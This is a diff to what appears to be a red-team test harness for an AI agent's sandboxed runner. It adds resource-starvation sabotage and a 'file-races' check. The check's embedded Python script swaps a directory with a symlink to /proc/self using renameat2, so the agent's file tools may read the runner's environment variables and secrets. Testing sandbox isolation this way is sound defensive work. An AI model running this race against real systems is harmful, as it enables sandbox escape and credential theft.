@@ -37,12 +37,25 @@ from tools.emulator import Emulator, call, end, say, tools
 SABOTEUR = Path(__file__).with_name("sabotage.py")
 _LEFT_SECONDS = 60.0  # that the call would go on after the deeds
 HOSTILE = Path(__file__).with_name("hostile.py")
-LATER = frozenset({"background", "next-runner"})
+LATER = frozenset({"background", "next-runner", "replay"})
 CRASH = ("lock", "journal", "core-dump")  # deeds in one session, the last ends the runner
 HANG = ("stale-lock", "wreck", "window")  # and in another, the last stops it
-SABOTAGE = frozenset({*CRASH, *HANG, "kill", "freeze"})
-INSIDE = frozenset(NAMES) - LATER - SABOTAGE - {"file-tools", "output"}
+STARVE = ("starve",)  # and in a third
+SABOTAGE = frozenset({*CRASH, *HANG, *STARVE, "kill", "freeze"})
+INSIDE = frozenset(NAMES) - LATER - SABOTAGE - {"file-tools", "file-races", "output"}
 LEASE_SECONDS = 6.0  # so that a runner beats every three, and one that does not is known to be out of action soon
+_RACE_SECONDS = 60.0
+_RACE_CALLS = 480
+_INSIDE = "rt-inside"
+# renameat2 with RENAME_EXCHANGE: the directory and the link change places, again and again. With these pauses one read
+# in fifteen or so is won, also on a busy machine.
+_SWAP = """
+import ctypes, os, random, time
+os.path.lexists("rt-link") or os.symlink("/proc/self", "rt-link")
+swap = ctypes.CDLL(None).renameat2
+while not swap(-100, b"rt-swap", -100, b"rt-link", 2):
+    time.sleep(random.random() / 20000)
+"""
 _OUTPUT_BYTES = 8_000_000
 _MOST_CHARACTERS = 200_000  # of a tool's result; the SDK keeps the last 100 KiB of what a command prints
 
@@ -172,6 +185,7 @@ class RedTeam:
                 "places": self.places(tmp_path / "sandboxes"),
                 "forged": marks.forged,
                 "limits": self.limits._asdict(),
+                "api": world.base_url,
                 **lures,
             }
             campaign = Campaign(world.host(provider=neighbour.provider), marks, config, world.emulator.environment_key)
@@ -203,9 +217,9 @@ class Campaign:
     def __init__(self, host: Host, marks: Marks, config: dict[str, Any], environment_key: str) -> None:
         self._host = host
         self._marks = marks
-        self._config = config
-        self._environment_key = environment_key
         self._session = host.emulator.create_session()
+        self._config = {**config, "session": self._session}
+        self._environment_key = environment_key
 
     async def run(self, tried: list[str]) -> dict[str, Verdict]:
         first = [name for name in tried if name in INSIDE]
@@ -223,6 +237,8 @@ class Campaign:
             assert told["output"].endswith("END")
         if "file-tools" in tried:
             verdicts["file-tools"] = await self._file_tools()
+        if "file-races" in tried:
+            verdicts["file-races"] = await self._file_races()
         if later:
             await self._host.until_stopped(self._session)
             told = await self._turn({"look": self._hostile(*later)})
@@ -316,9 +332,39 @@ class Campaign:
         ]  # fmt: skip
         return Verdict(bool(let_through), f"{len(calls)} calls; not refused: {let_through or 'none'}")
 
+    async def _file_races(self) -> Verdict:
+        """Between a look at a path and its use lies a moment, in which a directory of the agent's becomes a link to the
+        runner's own part of /proc. To win that race is easy; what counts is what lies there."""
+        swap = f"timeout {_RACE_SECONDS:g} python3 -I -S -c {shlex.quote(_SWAP)} > /dev/null 2>&1 &"
+        await self._turn(
+            {"swap": f"mkdir -p rt-swap; for f in environ cmdline; do echo {_INSIDE} > rt-swap/$f; done\n{swap}"}
+        )
+        calls = [
+            *(call("read", file_path=f"rt-swap/{name}") for name in ("environ", "cmdline") * 6),
+            call("grep", pattern=".", path="rt-swap/environ"),
+            call("glob", pattern="env*", path="rt-swap"),
+            call("edit", file_path="rt-swap/environ", old_string="A", new_string="B"),
+            call("write", file_path="rt-swap/cmdline", content=_INSIDE),
+        ]
+        told: list[str] = []
+        won = 0
+        while not won and len(told) < _RACE_CALLS:
+            before = len(self._host.results(self._session))
+            await self._play([tools(*calls) for _ in range(3)])
+            results = self._host.results(self._session)[before:]
+            told += [text for _, text in results]
+            won = sum(
+                each.name == "read" and not is_error and _INSIDE not in text
+                for each, (is_error, text) in zip(calls * 3, results, strict=True)
+            )
+        held = self._prizes("file-races")
+        found = sorted(kind for kind, value in held.items() if any(value in text for text in told))
+        evidence = f"{len(told)} calls, {won} of them read what is the runner's; found: {', '.join(found) or 'nothing'}"
+        return Verdict(bool(found), evidence)
+
 
 class Sabotage:
-    """Two sessions at the same time. Each must go on: what the deeds interrupted has an answer, and the next message
+    """Three sessions at the same time. Each must go on: what the deeds interrupted has an answer, and the next message
     finds a runner that works."""
 
     def __init__(self, host: Host, tried: set[str], isolated: bool) -> None:
@@ -328,7 +374,7 @@ class Sabotage:
         self._tried = tried
         # The last deed of each is what it takes to see the others' effect: another runner.
         needed = tried | {deeds[-1] for deeds in (CRASH, HANG) if tried & {*deeds, "kill", "freeze"}}
-        groups = {"kill": CRASH, "freeze": HANG}
+        groups = {"kill": CRASH, "freeze": HANG, "starve": STARVE}
         self._deeds = {group: [deed for deed in deeds if deed in needed] for group, deeds in groups.items()}
         self._sessions = {group: self._emulator.create_session() for group, deeds in self._deeds.items() if deeds}
 
